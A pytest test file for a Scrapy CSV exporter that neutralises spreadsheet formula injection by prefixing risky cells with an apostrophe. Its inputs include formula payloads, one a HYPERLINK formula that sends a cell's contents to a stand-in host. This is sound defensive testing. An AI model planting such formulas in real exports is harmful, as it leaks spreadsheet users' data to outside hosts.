"""CSV for spreadsheets: no cell is a formula, numbers stay numbers, nothing is lost."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal
from typing import Any

import pytest
import scrapy

from newsextract.exporters.csv import SafeCsvItemExporter, safe_cell
from newsextract.items import FIELD_NAMES, Article


def exported(*items: Any, **options: Any) -> str:
    file = io.BytesIO()
    exporter = SafeCsvItemExporter(file, **options)
    exporter.start_exporting()
    for item in items:
        exporter.export_item(item)
    exporter.finish_exporting()
    return file.getvalue().decode(options.get("encoding") or "utf-8")


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


@pytest.mark.parametrize(
    "cell",
    [
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        '=HYPERLINK("https://bad.example/?"&A1,"more")',
        "  =1",
        "\t=1",
        "\ttabbed",
        "\rreturned",
        "\nnext",
        "\ufeff=1",
        "\u00a0=1",
        "\u3000＝1",
        "\u200b\u200b=1",
        "\x00=1",
        "＝1",
        "＋1",
        "－1",
        "＠1",
        "-",
        b"=1",
    ],
)
def test_a_cell_that_would_be_a_formula_begins_with_an_apostrophe(cell: str | bytes) -> None:
    text = cell.decode() if isinstance(cell, bytes) else cell.replace("\0", "")
    assert rows(exported({"title": cell}))[0]["title"] == f"'{text}"


@pytest.mark.parametrize(
    "cell",
    ["news", "", " news", "a=1", "1-0", "'=1", "“=1”", "中国＝", "_", "(=1)", '"=1"', "a\n=1", "\ufeffa"],
)
def test_any_other_cell_stays_as_it_is(cell: str) -> None:
    assert rows(exported({"title": cell}))[0]["title"] == cell


@pytest.mark.parametrize("value", [-1, -0.5, 0, True, None, Decimal("-2")])
def test_numbers_and_nothing_are_left_alone(value: Any) -> None:
    assert safe_cell(value) is value


class Sly:
    """Any object that prints as a formula."""

    def __str__(self) -> str:
        return "=1"


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (Sly(), "'=1"),
        (date(2026, 1, 2), "2026-01-02"),
        (("Ann", "Bo, Jr."), "Ann | Bo, Jr."),
        (["=1", "b"], "'=1 | b"),
        ([1, 2], "[1, 2]"),
        ((), ""),
        ({"a": 1}, "{'a': 1}"),
    ],
)
def test_values_that_are_no_text(value: Any, cell: str) -> None:
    assert rows(exported({"value": value}))[0]["value"] == cell


def test_the_columns_of_an_article_are_its_fields_in_their_order() -> None:
    text = exported(Article(title="=1", authors=("Ann", "Bo"), text="one\ntwo", confidence=0.5))
    (row,) = rows(text)
    assert tuple(row) == FIELD_NAMES
    assert row["title"] == "'=1"
    assert row["authors"] == "Ann | Bo"
    assert row["text"] == "one\ntwo"
    assert row["paragraphs"] == "one | two"
    assert row["confidence"] == "0.5"
    assert row["truncated"] == "False"


def test_headings_are_cells_too() -> None:
    assert exported({"=1": "a"}) == "'=1\r\na\r\n"


class Record(scrapy.Item):
    """An item of Scrapy's own kind, with a serializer."""

    name = scrapy.Field()
    size = scrapy.Field(serializer=lambda value: f"={value}")


def test_what_a_serializer_makes_is_checked() -> None:
    assert exported(Record(name="a", size=3)) == "name,size\r\na,'=3\r\n"


def test_scrapys_options_work() -> None:
    item = {"a": ["x", "y"], "b": "z"}
    assert exported(item, join_multivalued=";", include_headers_line=False) == "x;y,z\r\n"
    assert exported(item, fields_to_export={"b": "Bee"}) == "Bee\r\nz\r\n"


def test_a_character_that_the_encoding_lacks_does_not_cost_the_item() -> None:
    assert exported({"a": "é新\ud83d"}, encoding="latin-1") == "a\r\né??\r\n"


def test_a_long_run_of_blanks_is_read_once() -> None:
    # Linear: one class of characters, then one character. The cell is no formula, so nothing is added.
    assert safe_cell(" " * 1_000_000 + "a") == " " * 1_000_000 + "a"
